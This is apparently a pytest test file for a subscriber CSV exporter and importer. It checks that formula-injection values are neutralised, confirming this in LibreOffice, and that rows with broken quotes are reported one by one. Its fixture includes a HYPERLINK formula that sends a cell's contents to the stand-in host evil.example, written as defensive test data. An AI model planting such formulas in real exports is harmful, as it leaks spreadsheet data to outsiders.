"""CSV files in and out: exports never run as formulas (checked in LibreOffice), imports survive broken quotes."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from machine import install_debian_package
from sqlalchemy import Engine

from subscribers.exporter import export_csv, neutralise_cell, restore_cell
from subscribers.importer import import_csv
from subscribers.model import SubscriberStatus
from subscribers.store import SubscriberStore
from syndication.store.db import open_engine

KEY = "test-secret-key-0123456789abcdef"
NOW = datetime(2026, 11, 24, 5, 0, tzinfo=UTC)
HOSTILE = {
    "at@example.org": "@SUM(1+1)",
    "gleich@example.org": "=1+1",
    "plus@example.org": "+1+2",
    "minus@example.org": "-2+3",
    "link@example.org": '=HYPERLINK("https://evil.example/?"&A1;"Klick")',
    "quote@example.org": "'=1+1",
    "hooft@example.org": "'t Hooft",
    "-1+1@example.org": "Minus vorn in der Adresse",
    "=1+1@example.org": "Gleich vorn in der Adresse",
}
NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}
# LibreOffice's CSV filter: comma, double quote, UTF-8, from line 1, …, token 13 "evaluate formulas" on, so
# that LibreOffice treats the file as Excel does: a cell starting with "=" is a formula.
CSV_FILTER = "CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true"


@pytest.fixture
def store(engine: Engine) -> SubscriberStore:
    created = SubscriberStore(engine, KEY)
    for address, name in HOSTILE.items():
        created.add(address, now=NOW, status=SubscriberStatus.ACTIVE, name=name, topics=["+Politik", "Sport"])
    return created


def _export(store: SubscriberStore) -> str:
    buffer = io.StringIO(newline="")
    export_csv(store, buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=1", "''", "'", "'t", "", "x=1", "''=1"])
def test_neutralised_cells_never_start_a_formula_and_restore_exactly(value: str) -> None:
    """A cell never starts with = + - @ TAB CR after neutralising, and restoring gives back the value."""
    assert neutralise_cell(value)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
    assert value == restore_cell(neutralise_cell(value))


def test_export_neutralises_and_import_restores(store: SubscriberStore, tmp_path: Path) -> None:
    """Formula-like names, topics and addresses are exported quoted and imported back unchanged."""
    exported = _export(store)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert "'@SUM(1+1)" == next(r["name"] for r in rows if r["email"] == "at@example.org")
    assert "'-1+1@example.org" in {r["email"] for r in rows}
    assert "'+Politik|Sport" == rows[0]["topics"]
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8", newline="")
    other = open_engine(f"sqlite:///{tmp_path / 'other.db'}")
    try:
        target = SubscriberStore(other, KEY)
        report = import_csv(target, path, now=NOW, consented=False, wording_version="2026-11")
        assert (len(HOSTILE), ()) == (report.imported, report.rejected)
        assert HOSTILE == {s.email: s.name for s in target.list()}
        assert {("+Politik", "Sport")} == {s.topics for s in target.list()}
    finally:
        other.dispose()


@pytest.fixture(scope="session")
def soffice() -> str:
    if shutil.which("soffice") is None:
        reason = install_debian_package("libreoffice-calc", "soffice")
        if reason:
            pytest.skip(reason)
    found = shutil.which("soffice")
    assert found is not None
    return found


def _open_in_libreoffice(soffice: str, csv_path: Path) -> list[list[tuple[str | None, str]]]:
    """Each row of the CSV as LibreOffice Calc reads it: (formula or None, shown text) per cell."""
    out = csv_path.parent / "converted"
    profile = csv_path.parent / "lo-profile"
    done = subprocess.run(
        [soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "ods",
         f"--infilter={CSV_FILTER}", "--outdir", str(out), str(csv_path)],
        capture_output=True, text=True, timeout=300, check=False,
        env={**os.environ, "HOME": str(csv_path.parent)},
    )
    converted = out / f"{csv_path.stem}.ods"
    assert converted.exists(), f"LibreOffice did not convert the file: {done.stdout} {done.stderr}"
    with zipfile.ZipFile(converted) as archive:
        content = ElementTree.fromstring(archive.read("content.xml"))
    rows = []
    for row in content.iter(f"{{{NS['table']}}}table-row"):
        cells: list[tuple[str | None, str]] = []
        for cell in row.iter(f"{{{NS['table']}}}table-cell"):
            formula = cell.get(f"{{{NS['table']}}}formula")
            shown = "".join("".join(p.itertext()) for p in cell.iter(f"{{{NS['text']}}}p"))
            # Equal neighbours are stored once with a repeat count.
            cells.extend([(formula, shown)] * int(cell.get(f"{{{NS['table']}}}number-columns-repeated", "1")))
        while cells and cells[-1] == (None, ""):
            cells.pop()
        rows.append(cells)
    return rows


def test_exported_csv_opens_as_text_in_libreoffice(store: SubscriberStore, tmp_path: Path, soffice: str) -> None:
    """LibreOffice (formulas evaluated on import) finds no formula in the export; every cell shows as written."""
    unsafe = tmp_path / "unsafe.csv"
    with unsafe.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["email", "name"], *HOSTILE.items()])
    # The harness sees formulas where there are some (else the check below could not fail).
    assert any(formula for row in _open_in_libreoffice(soffice, unsafe) for formula, _ in row)
    exported = tmp_path / "export.csv"
    exported.write_text(_export(store), encoding="utf-8", newline="")

    read = _open_in_libreoffice(soffice, exported)

    assert [] == [(formula, shown) for row in read for formula, shown in row if formula]
    written = [row[: max((i + 1 for i, c in enumerate(row) if c), default=0)]
               for row in csv.reader(io.StringIO(exported.read_text(encoding="utf-8")))]
    assert written == [[shown for _, shown in row] for row in read]


def test_unbalanced_quote_costs_only_its_own_row(engine: Engine, tmp_path: Path) -> None:
    """A quote left open is reported at its line; every other line is imported (nothing swallowed)."""
    store = SubscriberStore(engine, KEY)
    lines = [
        "email,name,topics",
        "a@example.org,Anna,Politik",
        'b@example.org,"Bernd,Sport',
        "c@example.org,Carla,Sport",
        'd@example.org,"Dora ""die Kluge""",Politik',
        "e@example.org,Emil,Sport",
        'f@example.org,Frida"s Laden,Sport',
        "g@example.org,Gustav,Kultur",
    ]
    path = tmp_path / "broken.csv"
    path.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")

    report = import_csv(store, path, now=NOW, consented=True, wording_version="2026-11")

    assert [3] == [r.line for r in report.rejected]
    assert "quoted field is not closed" in report.rejected[0].reason
    imported = {s.email: s.name for s in store.list()}
    assert {"a", "c", "d", "e", "f", "g"} == {address.split("@")[0] for address in imported}
    assert ('Dora "die Kluge"', 'Frida"s Laden') == (imported["d@example.org"], imported["f@example.org"])
    # Every line after the header is either imported or named in the report.
    named = {r.line for r in report.rejected}
    assert set(range(2, len(lines) + 1)) == named | {
        number for number, line in enumerate(lines, start=1) if line.split(",")[0] in imported
    }


def test_unbalanced_quote_on_the_last_line(engine: Engine, tmp_path: Path) -> None:
    """An open quote in the last line, without a line end, is reported too."""
    store = SubscriberStore(engine, KEY)
    path = tmp_path / "tail.csv"
    path.write_text('email,name\na@example.org,Anna\nb@example.org,"Bernd', encoding="utf-8")
    report = import_csv(store, path, now=NOW, consented=True, wording_version="2026-11")
    assert ([3], ["a@example.org"]) == ([r.line for r in report.rejected], [s.email for s in store.list()])


def test_import_caps_fields_as_the_form_does(engine: Engine, tmp_path: Path) -> None:
    """A 500-character name is cut to 200 like the form's; an over-long unsubscribe reason rejects its row."""
    store = SubscriberStore(engine, KEY)
    path = tmp_path / "long.csv"
    path.write_text(
        "email,name,unsubscribe_reason\n"
        f"lang@example.org,{'N' * 500},\n"
        f"grund@example.org,Grund,{'x' * 201}\n",
        encoding="utf-8",
    )
    report = import_csv(store, path, now=NOW, consented=True, wording_version="2026-11")
    assert [(3, "unsubscribe_reason is longer than 200 characters")] == [(r.line, r.reason) for r in report.rejected]
    assert "N" * 200 == store.get_by_email("lang@example.org").name
